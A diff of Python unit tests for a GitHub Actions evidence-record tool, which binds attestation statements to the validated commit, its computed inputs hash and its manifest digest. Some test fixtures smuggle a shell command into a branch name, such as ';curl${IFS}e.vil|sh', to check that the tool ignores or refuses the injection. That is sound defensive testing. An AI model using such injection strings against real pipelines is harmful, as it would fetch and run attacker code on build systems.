@@ -1,4 +1,5 @@
-"""`evidence record`: a statement from a smoke report and the GitHub Actions environment."""
+"""`evidence record`: a statement from a smoke report and the GitHub Actions environment, about the
+commit the validation workflow's own code established (`Validated`)."""
 
 from __future__ import annotations
 
@@ -16,9 +17,11 @@ from tests.unit.evidence_builders import (
     NOW,
     REPO,
     REPO_ID,
+    WORKFLOW_REF,
     entry,
     github_env,
     smoke_report,
+    validated,
     write_json,
 )
 from twinbuild.errors import ConfigError
@@ -27,7 +30,10 @@ from twinbuild.evidence.statement import PREDICATE_TYPE, STATEMENT_TYPE, Stateme
 
 
 def _record(tmp_path: Path, report: dict[str, Any], **env: str) -> Statement:
-    return record(write_json(tmp_path / "smoke.json", report), env=github_env(**env), now=NOW)
+    platform = report.get("platform")
+    about = validated(smoke_report(platform if platform in ("cuda", "rocm") else "cuda"))
+    path = write_json(tmp_path / "smoke.json", report)
+    return record(path, env=github_env(**env), now=NOW, validated=about)
 
 
 def test_statement_from_a_passing_run(tmp_path: Path) -> None:
@@ -51,8 +57,8 @@ def test_statement_from_a_passing_run(tmp_path: Path) -> None:
         "pr": 42,
     }
     assert p["run"] == {
-        "event": "push",
-        "workflow_ref": f"{REPO}/.github/workflows/gpu.yml@refs/heads/validate/pr-42",
+        "event": "workflow_run",
+        "workflow_ref": WORKFLOW_REF,
         "run_id": 9001,
         "run_attempt": 1,
         "actor": "maintainer",
@@ -165,26 +171,51 @@ def test_a_truncated_report_records_nothing(tmp_path: Path) -> None:
     path = tmp_path / "smoke.json"
     path.write_text(json.dumps(smoke_report("cuda"))[:50])
     with pytest.raises(ConfigError, match="ends early"):
-        record(path, env=github_env(), now=NOW)
+        record(path, env=github_env(), now=NOW, validated=validated(smoke_report("cuda")))
 
 
 def test_missing_environment_variable(tmp_path: Path) -> None:
     env = github_env()
     del env["GITHUB_RUN_ATTEMPT"]
+    report = smoke_report()
+    path = write_json(tmp_path / "s.json", report)
     with pytest.raises(ConfigError) as info:
-        record(write_json(tmp_path / "s.json", smoke_report()), env=env, now=NOW)
+        record(path, env=env, now=NOW, validated=validated(report))
     assert str(info.value) == (
         "$GITHUB_RUN_ATTEMPT is not set; `evidence record` runs inside a GitHub Actions job "
         "(set the GITHUB_* variables by hand for a dry run)"
     )
 
 
-def test_a_branch_name_with_shell_metacharacters_is_refused(tmp_path: Path) -> None:
+def test_the_source_is_the_validated_commit_not_the_runs_own(tmp_path: Path) -> None:
+    """workflow_run runs on the default branch: GITHUB_SHA and GITHUB_REF are main's, never what
+    the statement is about."""
+    statement = _record(tmp_path, smoke_report(), GITHUB_REF="refs/heads/validate/x;curl|sh")
+    assert (statement.predicate.source.commit, statement.predicate.source.ref) == (
+        HEAD,
+        "refs/heads/validate/pr-42",
+    )
+
+
+def test_the_inputs_hash_is_the_computed_one_not_the_image_label(tmp_path: Path) -> None:
+    report = smoke_report("cuda")
+    report["image"]["inputs_hash"] = "sha256:" + "f" * 64  # what the PR's build labelled
+    about = validated(smoke_report("cuda"))
+    path = write_json(tmp_path / "smoke.json", report)
+    statement = record(path, env=github_env(), now=NOW, validated=about)
+    assert statement.predicate.build.inputs_hash == INPUTS["cuda"]
+
+
+def test_a_smoke_run_of_another_manifest_is_refused(tmp_path: Path) -> None:
+    report = smoke_report("cuda", manifest_digest="sha256:" + "e" * 64)
     with pytest.raises(ConfigError) as info:
-        _record(tmp_path, smoke_report(), GITHUB_REF="refs/heads/validate/x;curl${IFS}e.vil|sh")
-    assert str(info.value) == (
-        "$GITHUB_REF: 'refs/heads/validate/x;curl${IFS}e.vil|sh' has characters outside "
-        "[A-Za-z0-9._/-]; name validation branches like validate/pr-123"
+        record(
+            write_json(tmp_path / "smoke.json", report), env=github_env(), now=NOW,
+            validated=validated(smoke_report("cuda")),
+        )  # fmt: skip
+    assert str(info.value).endswith(
+        f"report.manifest_digest: the smoke run checked pins/manifest.toml sha256:{'e' * 64}, "
+        f"commit {HEAD} has {MANIFEST}; smoke the image against the validated commit's manifest"
     )
 
 
@@ -206,11 +237,7 @@ def test_a_pull_request_run_records_the_fork_as_head(tmp_path: Path) -> None:
         GITHUB_REF="refs/pull/7/merge",
     )
     source = statement.predicate.source
-    assert (source.head_repository, source.head_repository_id, source.pr) == (
-        "mallory/twinbuild",
-        666,
-        7,
-    )
+    assert (source.head_repository, source.head_repository_id) == ("mallory/twinbuild", 666)
 
 
 def test_save_writes_a_statement_that_parses_back(tmp_path: Path) -> None:
